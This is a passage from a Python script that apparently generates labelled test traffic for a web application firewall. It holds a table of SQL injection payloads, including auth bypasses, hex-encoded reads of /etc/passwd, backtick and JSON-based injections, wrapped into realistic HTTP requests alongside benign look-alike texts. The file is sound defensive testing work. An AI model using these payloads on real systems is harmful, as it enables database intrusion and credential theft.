        N("'||'%'||'%'||'%'||'%'||'"),
        N("\"><'\"`;(){}[]--#@@"),
        N("'/**/||/**/'/**/||/**/'/**/||'"),
        N("@@@@@@@@@@@@@@version"),
        N("1'--';'--';'--';'--"),
        N("~~~~~~~~~~~~~~~~~ ' or 1=1"),
        W("%27%27%27%27%27%27%27%27%27%27%27%27%27%27"),
        J(r"\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027\u0027"),
    ]),
    ("942440", "sql-comment-sequence", [
        N("admin'--"),
        N("1 -- comment"),
        N("x'/*"),
        N("1 */ or 1=1"),
        N("laptop';--"),
        N("1#foo bar"),
        N("admin' -- -"),
        N("1 --x-"),
        N("1 /* */ or 1=1"),
        N("5' #"),
        N("1;--"),
        W("1%3B%00"),
        W("admin%2527%252D%252D%2520"),
        J(r"admin\u0027--\u0020"),
    ]),
    ("942450", "sql-hex-encoding", [
        N("1 union select 0x61646d696e"),
        N("' or name=0x726f6f74#"),
        N("1 and 0x313233=0x313233"),
        N("1;DECLARE @s VARCHAR(4000);SET @s=0x73656C65637420404076657273696F6E;EXEC(@s)"),
        N("' UNION SELECT load_file(0x2F6574632F706173737764)-- -"),
        N("1 and 1=0X414243"),
        N("' union select concat(0x3a3a,user(),0x3a3a)#"),
        N("' or name=x'61646d696e'#"),
        N("' or login=X'726f6f74'#"),
        N("' or name=decode('61646d696e','hex')--"),
        N("1 and CAST(0x77686f616d69 AS varchar(20))='whoami'"),
        W("1%20union%20select%200x414243"),
        J(r"1 or login\u003d0x61646d696e"),
    ]),
    ("942510", "tick-backtick-bypass", [
        N("1` OR `1`=`1"),
        N("name FROM `users` WHERE `id`=1"),
        N("`id` = 1 union select 1 -- "),
        N("x` or 1=1 `"),
        N("`YWRtaW4=`"),
        N("SELECT `pass` FROM `admins`"),
        N("1 ORDER BY `password` DESC"),
        N("laptop` AND (SELECT 1)=1 AND `a"),
        N("`sleep(5)`"),
        N("`information_schema`.`tables`"),
        N("&#96;id&#96;=1"),
        W("%60users%60"),
        J(r"\u0060admin\u0060 --"),
    ]),
    ("4x", "json-based-sqli", [
        N("1' OR '{\"a\":2}' @> '{\"a\":2}'--"),
        N("' or '{\"b\":2}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--"),
        N("1 AND JSON_EXTRACT('{\"x\":1}','$.x')=1"),
        N("' OR JSON_LENGTH('{}')<=8896-- -"),
        N("1 or json_depth('{}')!=2"),
        N("' or '{\"a\":1}'->>'a'='1'--"),
        N("' OR json_array_length('[1,2]')=2--"),
        N("' AND JSON_VALID('{}')=1#"),
        N("' or '{\"a\":1}'::jsonb ? 'a'--"),
        N("' OR JSON_CONTAINS('{\"a\":1}','1','$.a')#"),
        N("1' OR ISJSON('{}')=1--"),
        N("' OR JSON_VALUE('{\"a\":\"b\"}','$.a')='b'--"),
        W("1%27%20or%20%27%7B%22a%22%3A1%7D%27%20%40%3E%20%27%7B%22a%22%3A1%7D%27--"),
        J(r"1\u0027 or json_extract(\u0027{}\u0027,\u0027$\u0027) is not null--"),
    ]),
    ("4x", "mysql-scientific-notation", [
        N("1' 1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e) 1.e,1 1.e,1 1.e)1.e)1.e) "
          "= 70 or'1'='2"),
        N("-1 1.e(1) union select version()"),
        N("1e0union select 1,user()"),
        N("0.1e1union all select 1,2,3-- -"),
        N("2.e0union select null,@@version#"),
        N("' or 1.e(1)=1#"),
        N("1 and 1.e(2)=1.e(2)"),
        N("9e9union select 1"),
        N("1.1e1 union distinct select 2"),
        N("x' 1.e(user()) or '1'='1"),
        W("1.e(1)%20union%20select%201"),
        J(r"1e0\u0075nion select 1"),
    ]),
    ("4x", "auth-bypass-split-query", [
        N("admin'; --"),
        N("admin';#"),
        N("x'; select true; --"),
        N("' ; select 1 ; --"),
        N('admin");-- -'),
        N("1'; select * from users where '1'='1"),
        N("' ;--"),
        N("admin'/**/;/**/--"),
        N('";--'),
        N("admin'; SELECT 1 WHERE '1'='1"),
        W("admin%27%3B--"),
        J(r"admin\u0027\u003b--"),
    ]),
    ("4x", "auth-bypass-4", [
        N("admin'-'"),
        N("jsmith'*'"),
        N("'^'"),
        N("'&'"),
        N("' or ''-'"),
        N("'-||0'"),
        N('"-"'),
        N("admin'='"),
        N("'+'"),
        N("x'||'1'||'"),
        N("'%'"),
        W("%27-%27"),
        J(r"\u0027^\u0027"),
    ]),
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Tenant-Id",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
WIRE_REAL = ["query", "form", "path", "cookie"]
WIRE_RS = ["rs-query", "rs-form", "rs-raw-body", "rs-cookie"]
HEADERISH = {"cookie", "header:User-Agent", "header:Referer", "header:X-Tenant-Id", "multipart-filename",
             "rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom", "rs-cookie"}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
QUERY_FIELDS = ["q", "search", "name", "email", "id", "sort", "filter", "department"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "city", "company", "username"]
XML_FIELDS = ["name", "department", "title", "city", "notes"]
COOKIE_NAMES = ["last_search", "user_id", "lang", "cart", "recent"]

ENTITY = re.compile(r"&(#\d+|#x[0-9a-fA-F]+|[A-Za-z]+);")


class Builder:
    """Browser-like and regression-suite requests around a value, from one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def tok(self, n: int = 24) -> str:
        return "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
                       for _ in range(n))

    def browser(self, accept: str = "application/json, text/plain, */*", referer: str = "/users",
                cookie_extra: str = "") -> dict[str, str]:
        h = {"User-Agent": self.rng.choice(BROWSERS), "Accept": accept,
             "Accept-Language": self.rng.choice(["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "en-GB,en;q=0.7"]),
             "Accept-Encoding": "gzip, deflate, br", "Referer": "https://app.example.com" + referer,
             "Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Site": "same-origin",
             "Cookie": f"session={self.tok(32)}; consent=analytics%3Dfalse%26ads%3Dfalse" + cookie_extra}
        return h

    def rs_headers(self) -> dict[str, str]:
        return {"User-Agent": RS_UA, "Accept": RS_ACCEPT}


def _q(value: str) -> str:
    return urllib.parse.quote_plus(value, safe="")


def _cookie_value(value: str) -> str:
    if any(c in value for c in ';, "\t\\') or not value.isascii():
        return urllib.parse.quote(value, safe="'()=*!@$:/`|<>#-_.~+[]{}^%&?")
    return value


def _xml_text(value: str) -> str:
    """XML text as an attacker writes it: markup characters escaped, character references left to the parser."""
    out = []
    pos = 0
    for m in ENTITY.finditer(value):
        out.append(value[pos:m.start()].replace("&", "&amp;"))
        out.append(m.group(0))
        pos = m.end()
    out.append(value[pos:].replace("&", "&amp;"))
    return "".join(out).replace("<", "&lt;").replace(">", "&gt;")


def _json_literal(text: str, mode: str) -> str:
    """The value as it appears in a JSON body: a literal already escaped (mode json), a bare number, or a string."""
    if mode == "json":
        return '"' + text + '"'
    if mode == "num":
        try:
            json.loads(text)
            if re.fullmatch(r"-?(0|[1-9]\d*)(\.\d+)?([eE][+-]?\d+)?", text):
                return text
        except ValueError:
            pass
    return json.dumps(text, ensure_ascii=False)


def _multipart(b: Builder, field_value: str | None, filename: str | None) -> tuple[str, str]:
    boundary = "----WebKitFormBoundary" + b.tok(16).replace("-", "x").replace("_", "y")
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{b.tok(40)}\r\n']
    notes = field_value if field_value is not None else "quarterly import of new hires"
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="notes"\r\n\r\n{notes}\r\n')
    fname = (filename if filename is not None else "new_hires_2024-06.csv").replace('"', "%22")
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{fname}"\r\n'
                 f"Content-Type: text/csv\r\n\r\nname,email,department\r\nAnn Lee,ann@example.org,Sales\r\n")
    parts.append(f"--{boundary}--\r\n")
    return "".join(parts), f"multipart/form-data; boundary={boundary}"


def real_request(b: Builder, place: str, text: str, mode: str, k: int) -> dict[str, Any]:
    """The value at one of our real routes."""
    page = str(1 + k % 7)
    per = ["20", "50", "100"][k % 3]
    if place == "query":
        field = QUERY_FIELDS[k % len(QUERY_FIELDS)]
        v = text if mode == "wire" else _q(text)
        params = [f"{field}={v}", f"page={page}", f"per_page={per}"]
        params = params[k % 3:] + params[:k % 3]
        return {"method": "GET", "uri": "/api/users?" + "&".join(params), "body": "",
                "headers": b.browser(referer="/users?tab=all")}
    if place == "form":
        v = text if mode == "wire" else _q(text)
        body = f"csrf_token={b.tok(40)}&q={v}&status=active"
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**b.browser(accept="text/html,application/xhtml+xml,*/*;q=0.8",
                                        referer="/admin/users/search"),
                            "Content-Type": "application/x-www-form-urlencoded",
                            "Origin": "https://app.example.com", "Sec-Fetch-Mode": "navigate",
                            "Sec-Fetch-Dest": "document"}}
    if place == "json":
        lit = _json_literal(text, mode)
        field = JSON_FIELDS[k % len(JSON_FIELDS)]
        shape = k % 4
        uri, method = "/api/users", "POST"
        if shape == 0:
            body = f'{{"name": "Ann Lee", "email": "ann.lee@example.org", "{field}": {lit}, "active": true}}'
        elif shape == 1:
            body = f'{{"filter": {{"department": {lit}, "active": true}}, "page": {page}, "per_page": {per}}}'
        elif shape == 2:
            body = f'{{"name": "Ann Lee", "tags": ["billing", "emea", {lit}]}}'
        else:
            uri, method = "/api/users/42", "PATCH"
            body = f'{{"title": {lit}, "timezone": "Europe/Berlin"}}'
        return {"method": method, "uri": uri, "body": body,
                "headers": {**b.browser(referer="/users/new"), "Content-Type": "application/json",
                            "Origin": "https://app.example.com"}}
    if place == "cookie":
        name = COOKIE_NAMES[k % len(COOKIE_NAMES)]
        v = text if mode == "wire" else _cookie_value(text)
        return {"method": "GET", "uri": "/me/profile", "body": "",
                "headers": b.browser(accept="text/html,*/*;q=0.8", cookie_extra=f"; {name}={v}")}
    if place == "header:User-Agent":
        h = b.browser(referer="/dashboard")
        h["User-Agent"] = text
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": h}
    if place == "header:Referer":
        h = b.browser()
        h["Referer"] = "https://app.example.com/search?q=" + _q(text) + "&src=nav"
        return {"method": "GET", "uri": f"/api/users?page={page}&per_page={per}", "body": "", "headers": h}
    if place == "header:X-Tenant-Id":
        h = b.browser()
        h["X-Tenant-Id"] = text
        return {"method": "GET", "uri": "/api/users/42", "body": "", "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?page={page}&{_q(text)}=1&per_page={per}", "body": "",
                "headers": b.browser()}
    if place == "xml":
        field = XML_FIELDS[k % len(XML_FIELDS)]
        body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann Lee</name><email>ann.lee@example.org'
                f"</email><{field}>{_xml_text(text)}</{field}></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**b.browser(accept="application/xml"), "Content-Type": "application/xml"}}
    if place in ("multipart-field", "multipart-filename"):
        body, ctype = _multipart(b, text if place == "multipart-field" else None,
                                 text if place == "multipart-filename" else None)
        return {"method": "POST", "uri": "/admin/users/import", "body": body,
                "headers": {**b.browser(accept="text/html,*/*;q=0.8", referer="/admin/users/import"),
                            "Content-Type": ctype, "Origin": "https://app.example.com"}}
    # path
    v = text if mode == "wire" else urllib.parse.quote(text, safe="")
    return {"method": "GET", "uri": f"/api/users/{v}", "body": "", "headers": b.browser(referer="/users")}


def rs_request(b: Builder, place: str, text: str, mode: str, k: int) -> dict[str, Any]:
    """The value the way a regression suite sends it: a path that is not our route, an arbitrary name."""
    path = RS_PATHS[k % len(RS_PATHS)]
    param = RS_PARAMS[(k // 2) % len(RS_PARAMS)]
    h = b.rs_headers()
    if place == "rs-query":
        v = text if mode == "wire" else _q(text)
        return {"method": "GET", "uri": f"{path}?{param}={v}", "body": "", "headers": h}
    if place == "rs-form":
        v = text if mode == "wire" else _q(text)
        return {"method": "POST", "uri": path, "body": f"{param}={v}",
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        body = f'{{"{param}": {_json_literal(text, mode)}}}'
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f'<?xml version="1.0"?>\n<root><{param}>{_xml_text(text)}</{param}></root>'
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": text,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-header:User-Agent":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "User-Agent": text}}
    if place == "rs-header:Referer":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Referer": text}}
    if place == "rs-header:X-Custom":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "X-Custom-Header": text}}
    # rs-cookie
    v = text if mode == "wire" else _cookie_value(text)
    return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Cookie": f"{param}={v}"}}


def _doc_request(b: Builder, text: str, rs: bool, k: int) -> tuple[str, dict[str, Any]]:
    if rs:
        path = RS_PATHS[k % len(RS_PATHS)]
        return "rs-json", {"method": "POST", "uri": path, "body": text,
                           "headers": {**b.rs_headers(), "Content-Type": "application/json"}}
    uri = "/api/users/login" if k % 2 == 0 else "/api/users/search"
    return "json", {"method": "POST", "uri": uri, "body": text,
                    "headers": {**b.browser(referer="/login"), "Content-Type": "application/json",
                                "Origin": "https://app.example.com"}}


def _qs_request(b: Builder, text: str, rs: bool, k: int) -> tuple[str, dict[str, Any]]:
    if rs:
        path = RS_PATHS[k % len(RS_PATHS)]
        if k % 2 == 0:
            return "rs-query", {"method": "GET", "uri": f"{path}?{text}", "body": "", "headers": b.rs_headers()}
        return "rs-form", {"method": "POST", "uri": path, "body": text,
                           "headers": {**b.rs_headers(), "Content-Type": "application/x-www-form-urlencoded"}}
    if k % 2 == 0:
        return "param-name", {"method": "GET", "uri": f"/api/users?{text}&page=1", "body": "",
                              "headers": b.browser()}
    return "param-name:form", {"method": "POST", "uri": "/admin/users/search",
                               "body": f"csrf_token={b.tok(40)}&{text}",
                               "headers": {**b.browser(accept="text/html,*/*;q=0.8", referer="/admin/users/search"),
                                           "Content-Type": "application/x-www-form-urlencoded"}}


def _pick(places: list[str], start: int, text: str) -> tuple[str, int]:
    """The first placement from `start` (cyclic) that can carry the text (no control characters in headers)."""
    for d in range(len(places)):
        place = places[(start + d) % len(places)]
        if place in HEADERISH and (any(ord(c) < 32 for c in text) or not text.isascii()):
            continue
        return place, start + d + 1
    raise ValueError(text)


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(101_001)
    n = 0
    ri = 0
    si = 0
    for t, (_rule, sub, payloads) in enumerate(TITLES):
        ri = (ri + 5 * t) % len(REAL)
        si = (si + 3 * t) % len(RS)
        for k, (text, mode) in enumerate(payloads):
            kk = t * 17 + k
            if mode in ("qs", "doc"):
                make = _qs_request if mode == "qs" else _doc_request
                pairs = [make(b, text, False, kk), make(b, text, True, kk)]
            elif mode == "json":
                pairs = [("json", real_request(b, "json", text, mode, kk)),
                         ("rs-json", rs_request(b, "rs-json", text, mode, kk))]
            elif mode == "wire":
                rp = WIRE_REAL[kk % len(WIRE_REAL)]
                sp = WIRE_RS[(kk + 1) % len(WIRE_RS)]
                pairs = [(rp, real_request(b, rp, text, mode, kk)), (sp, rs_request(b, sp, text, mode, kk))]
            else:
                rp, ri = _pick(REAL, ri, text)
                sp, si = _pick(RS, si, text)
                pairs = [(rp, real_request(b, rp, text, mode, kk)), (sp, rs_request(b, sp, text, mode, kk))]
            for place, req in pairs:
                n += 1
                yield {**req, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub, "placement": place,
                       "payload": text}


# ---------------------------------------------------------------- benign: the same words, innocently

SLACK_TEXTS = [
    "can someone select a date for the union meeting? Thursday or Friday works for me",
    "order by date is broken on the invoices page, sorting by amount works though",
    "I'll drop the table from the slides, it's too dense",
    "sleep study results are in, benchmark numbers look better than last quarter",
    "the shutdown of the old data center is scheduled for 23:00 UTC",
    "waiting for delay approval from finance before we ship",
    "merge request !482 is ready, can you execute the migration after lunch?",
    "please execute immediately: rotate the on-call calendar",
    "the charset is utf8mb4 now, emojis in names work 🎉",
    "Match against the CRM export and flag duplicates",
    "we need to insert a row into the pricing sheet for the new tier",
    "update: the delete button now asks for confirmation",
    "`SELECT * FROM users` in prod is not ok, please use the read replica",
    "use `ORDER BY created_at DESC` and add a LIMIT, the report times out",
    "the MongoDB query uses $in for the list of ids and $gt for the date",
    "Postgres pg_stat_activity shows a long idle transaction again",
    "the MSSQL box runs the nightly job at 2am, don't restart it",
    "table names are in snake_case, see the style guide",
    "-- this is how SQL comments start, and # for MySQL, in case anyone asks",
    "O'Brien's team and D'Angelo's team both signed off",
    "Joe's laptop \"works on my machine\" again",
    "hex color for the brand is #1f6feb, the old one was 0x1F6FEB in the app",
    "max int is 2147483647 so the counter overflowed, we moved it to bigint",
    "the float 1e309 shows as Infinity in the JSON export, known bug",
    "scientific notation: 6.02e23 items in the warehouse, jk",
    "sales is up 12% and churn is down 3% -- nice work everyone!",
    "the IF() in the spreadsheet counts rows where status = 'open'",
    "char limit on the title field is 120 characters",
    "concat the first and last name for the badge printer",
    "sorry, sleeping in tomorrow, I'll be online at 10",
    "benchmark run #42 finished: p99 is 180 ms",
    "the union rep will attend the all-hands",
    "drop by the office if you need a new badge",
    "did anyone update the wiki page about the delete flow?",
    "case when the customer cancels: refund within 14 days",
    "having lunch at 12:30, back at 1",
    "exists a ticket for that? if not, I'll file one",
    "the procedure for expenses changed, see the handbook",
    "we declare the incident resolved as of 14:05",
    "alter the copy on the landing page: 'Start free' instead of 'Sign up'",
    "the /*! style hints are MySQL-specific, we don't use them",
    "load the file into the importer, then check the preview",
    "rename the channel to #team-data please",
    "truncate the description to 200 chars in the list view",
    "the cast of the play is announced, tickets on sale Monday",
    "version 8.0.36 of MySQL fixed the replication bug",
    "user() vs current_user() differ when proxying, TIL",
    "master branch is protected, open a PR against main",
    "tempdb grew to 40 GB overnight on the reporting server",
    "information_schema is slow on that host, cache the column list",
    "the Northwind sample database is handy for the training",
    "sqlite_master lists the tables if you are curious",
    "1=1 in the WHERE clause is what the query builder emits for an empty filter",
    "or else we miss the deadline, let's sync at 3",
    "between you and me, the new coffee machine is great",
    "like the new logo? vote in the thread",
    "not null constraint failed on email, the form allowed empty input",
    "and finally: thanks to everyone who helped with the launch",
    "waitfor it... the release notes are out",
    "Bobby Tables is our favourite xkcd, naturally",
    "the backup uses xp_ style stored procedures on the old server, we are migrating off",
    "sp_who2 showed the blocking session",
    "the match is at 8pm, against Leeds",
    "json_extract is handy for the settings column",
    "the `users` table has 1.2M rows now",
    "ticket title: 'Cannot log in' reported by Ann",
    "price -- including VAT -- is 49 EUR",
    "5' 11\" is the height field format on the old form",
    "the sort param accepts name, email or created_at",
    "hashtags like #union2024 are trending",
    "CSV cell \"Smith, John\" broke the parser again",
    "sleep(5) in the test was replaced with a proper wait",
    "benchmark() is not allowed in our code review rules",
    "1;2;3 are the steps, in that order",
    "dear team, the 'select' program for partners opens next week",
    "love the new dashboard; the charts are much clearer",
    "our tempo: update, review, ship",
    "reminder: the drop-in session is on Wednesday",
    "the quote character ' in names is handled by the ORM",
    "`id` and `name` are the two required columns",
]

SEARCHES = [
    "O'Brien", "D'Angelo", "Sinéad O'Connor", "union station", "select comfort mattress", "order by phone",
    "drop shipping", "sleep apnea", "benchmark report 2024", "shutdown procedure", "merge conflicts",
    "execute order", "match day", "charset utf-8", "insert coin", "delete account", "update billing address",
    "table lamp", "chair and table", "john smith", "ann lee", "1042", "42", "report_2024.pdf",
    "27\" monitor", "5' 11\"", "Q3 -- final", "rock & roll", "C# developer", "#general", "100% cotton",
    "cats or dogs", "salt and pepper", "between the lines", "like new", "is null", "not found",
    "what is 1=1", "A+B", "x-men", "AT&T", "Procter & Gamble", "Marks & Spencer", "Ben & Jerry's",
    "l'Oréal", "it's", "don't", "rock 'n' roll", "the \"best\" offer", "SELECT", "Union Pacific",
    "Master Card", "Microsoft SQL Server", "PostgreSQL tuning", "MongoDB Atlas", "SQLite browser",
    "Oracle cloud", "MySQL workbench", "sleepwalker", "char broiler", "hex key", "0x1F", "1e6",
    "2147483647", "3.14159", "-42", "007", "00123", "alter ego", "waitfor", "exec summary",
    "having fun", "case study", "exists", "version 2.0", "user guide", "database admin",
    "schema design", "tempdb", "master thesis", "northwind", "concat", "@ann", "ann@example.org",
    "+49 30 1234567", "(555) 123-4567", "50/50", "1/2 price", "a.b.c", "c:\\users", "~/docs",
    "foo_bar", "snake_case", "camelCase", "[draft]", "{placeholder}", "$100", "€50", "£20",
    "¿qué?", "naïve café", "東京", "Zürich", "São Paulo", "Kraków", "Ålesund", "emoji 😀",
    "`code`", "backtick `x`", "--verbose", "/* comment */", "a;b", "a|b", "a^b", "a*b", "a<b", "a>b",
]

NAMES_ADDRESSES = [
    ("Siobhán O'Neil", "12 Baker's Row, Dublin"), ("Jean-Luc D'Arcy", "3 rue de l'Église, Lyon"),
    ("Ann Lee", "10 Union Street, Seattle"), ("Tom O'Reilly", "Select House, 4 Order Lane, Leeds"),
    ("Mary-Kate Smith", "Apt. #4, 221B Baker St"), ("Zoë Müller", "Schlafstraße 5, 10115 Berlin"),
    ("Dr. James \"Jim\" Doe", "PO Box 1042, Austin TX"), ("Åsa Lindqvist", "Drottninggatan 1; 111 51 Stockholm"),
    ("Nguyễn Văn An", "123 Lê Lợi, Q.1, TP.HCM"), ("José Álvarez", "Calle Mayor 8 - 2º izq, Madrid"),
    ("Chen Wei", "88 Table Mountain Rd, Cape Town"), ("Priya Sharma", "Flat 2/1, Delete Court, Glasgow"),
    ("Liam O'Connor-Hughes", "The Old Mill, Sleepy Hollow NY"), ("Olga Ivanova", "ul. Tverskaya 7, Moscow"),
    ("Fatima Zahra", "Rue 12, Casablanca 20000"), ("Ken Watanabe", "1-2-3 Shibuya, Tokyo 150-0002"),
    ("Hannah Becker", "Mergeweg 14, Utrecht"), ("Luca Rossi", "Via dell'Unione 3, Roma"),
    ("Grace Kim", "Exec Suite 400, 1 Market St, SF"), ("Noah Williams", "Unit 5 & 6, Charter Way"),
]

FILENAMES = [
    "Q3 report (final).xlsx", "O'Brien CV.pdf", "team photo #2.jpg", "budget_2024-25 v3.csv", "notes; draft.txt",
    "select-plan.pdf", "union_agreement.docx", "sleep_log.csv", "benchmark results.ods", "shutdown-checklist.md",
    "users.csv", "orders 1=1 test.csv", "résumé.pdf", "John's contract.pdf", "data & analytics.pptx",
    "screenshot 2024-06-01 at 10.15.22.png", "table-export.tsv", "drop_zone.svg", "merge_template.dotx",
    "[draft] offer letter.pdf",
]

UAS = [
    CHROME, FIREFOX, SAFARI,
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 Edg/124.0.2478.51",
    "curl/8.5.0", "python-requests/2.31.0", "okhttp/4.12.0", "PostmanRuntime/7.37.3", "axios/1.6.8",
    "Go-http-client/2.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "AcmeApp/5.3.1 (iPhone; iOS 17.4; Scale/3.00)", "AcmeApp/5.3.1 (Android 14; SM-S918B)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Java/17.0.10", "Apache-HttpClient/4.5.14 (Java/17.0.10)", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
]

REFERERS = [
    "https://www.google.com/", "https://www.bing.com/search?q=union+station+hours",
    "https://duckduckgo.com/?q=select+comfort&ia=web", "https://app.example.com/users?sort=name&order=asc",
    "https://app.example.com/search?q=O%27Brien", "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://app.example.com/admin/users/search?q=drop+shipping", "https://t.co/AbCdEf123",
    "https://news.ycombinator.com/item?id=40123456", "https://github.com/acme/api/pull/482",
    "https://stackoverflow.com/questions/1234567/mysql-order-by-case-when",
    "https://en.wikipedia.org/wiki/SQL_injection", "https://app.example.com/users/42/edit#profile",
    "https://mail.google.com/", "https://app.example.com/?utm_source=newsletter&utm_medium=email",
    "https://docs.example.com/sql/select-statement", "https://www.example.co.uk/sleep-benchmark-2024",
    "https://app.example.com/search?q=rock+%26+roll", "https://app.example.com/search?q=1%3D1",
    "https://app.example.com/search?q=%2327%22+monitor",
]

COOKIE_VALUES = [
    "en-US", "de", "dark", "grid", "1042", "recently_viewed=42,43,44", "O%27Brien", "union%20station",
    "select%20plan", "sort%3Dname%26dir%3Dasc", "%7B%22theme%22%3A%22dark%22%7D", "1e6", "0x1F",
    "GA1.2.1234567890.1712345678", "true", "false", "eyJhbGciOiJIUzI1NiJ9.eyJ1aWQiOjQyfQ.c2lnbmF0dXJl",
    "sleep_mode", "order_by_date", "drop-down",
]

PATHS = [
    "42", "1042", "me", "ann.lee", "ann.lee%40example.org", "o%27brien", "d%27angelo", "union-station",
    "select-comfort", "order-by-phone", "drop-shipping", "sleep-study", "benchmark-2024", "shutdown-plan",
    "merge-requests", "match-day", "table-lamp", "x-men", "c%23-developer", "100%25-cotton", "rock%20%26%20roll",
    "at%26t", "caf%C3%A9", "%E6%9D%B1%E4%BA%AC", "1e6", "0x1f", "2147483647", "00123", "-42", "3.14",
]

PROSE = [
    "Please select the union representative for the committee and update the table by Friday.",
    "The shutdown order was executed immediately after the benchmark finished.",
    "Drop the old records from the report, or merge them with the new ones if they match.",
    "If the customer's name is O'Connor, the form must accept the apostrophe.",
    "Sleep for at least 7 hours; the benchmark for adults is 7 to 9.",
    "We declare the procedure complete and alter the schedule accordingly.",
    "Insert the CD, then update the drivers; delete the old version afterwards.",
    "The case when the order is late: exists a refund policy, having a 14-day window.",
    "Between 9 and 5, like most offices, we are open.",
    "My height is 5' 11\" and my shoe size is 10 1/2.",
    "Hex codes such as 0x1F and #FF0000 appear in the design tokens.",
    "Use -- to separate the options from the file names on the command line.",
    "The numbers 2147483647 and 4294967295 are the 32-bit limits, see the appendix.",
    "Scientific notation like 1.5e10 is accepted in the amount field.",
    "The MongoDB operators $gt, $lt and $in are documented in chapter 5.",
    "Write `SELECT name FROM users` in the exercise, then explain the result.",
    "Tea or coffee? Milk and sugar? Both, please.",
    "The concat of first and last name is shown on the badge.",
    "Charset switches are handled by the client library, not by us.",
    "Execute the plan: step 1; step 2; step 3.",
]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder(101_002)
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for k, term in enumerate(SEARCHES):
        yield rec("search", "query", real_request(b, "query", term, "", k))
        yield rec("form", "form", real_request(b, "form", term, "", k))
        yield rec("crawl", "rs-query", rs_request(b, "rs-query", term, "", k))
        if k % 2 == 0:
            yield rec("search-json", "json", real_request(b, "json", term, "", k))
        if k % 3 == 0:
            yield rec("search-ref", "header:Referer", real_request(b, "header:Referer", term, "", k))
    for k, (name, addr) in enumerate(NAMES_ADDRESSES):
        doc = {"name": name, "email": f"user{k}@example.org", "address": addr, "department": "Sales"}
        body = json.dumps(doc, ensure_ascii=False)
        yield rec("profile", "json", {"method": "POST", "uri": "/api/users", "body": body,
                                      "headers": {**b.browser(referer="/users/new"),
                                                  "Content-Type": "application/json"}})
        yield rec("profile-xml", "xml", real_request(b, "xml", addr, "", k))
        yield rec("profile-xml", "xml", real_request(b, "xml", name, "", k + 1))
        yield rec("profile-patch", "json", real_request(b, "json", addr, "", 3))
    for k, fname in enumerate(FILENAMES):
        yield rec("upload", "multipart-filename", real_request(b, "multipart-filename", fname, "", k))
        yield rec("upload", "multipart-field", real_request(b, "multipart-field", PROSE[k % len(PROSE)], "", k))
    for k, ua in enumerate(UAS):
        h = b.browser()
        h["User-Agent"] = ua
        yield rec("ua", "header:User-Agent", {"method": "GET", "uri": f"/api/users?page={k + 1}", "body": "",
                                              "headers": h})
        yield rec("crawl-ua", "rs-header:User-Agent", {"method": "GET", "uri": RS_PATHS[k % len(RS_PATHS)],
                                                       "body": "", "headers": {**b.browser(), "User-Agent": ua}})
    for k, ref in enumerate(REFERERS):
        h = b.browser()
        h["Referer"] = ref
        yield rec("referer", "header:Referer", {"method": "GET", "uri": f"/api/users?page={k % 5 + 1}", "body": "",
                                                "headers": h})
    for k, value in enumerate(COOKIE_VALUES):
        name = COOKIE_NAMES[k % len(COOKIE_NAMES)]
        yield rec("cookie", "cookie", {"method": "GET", "uri": "/me/profile", "body": "",
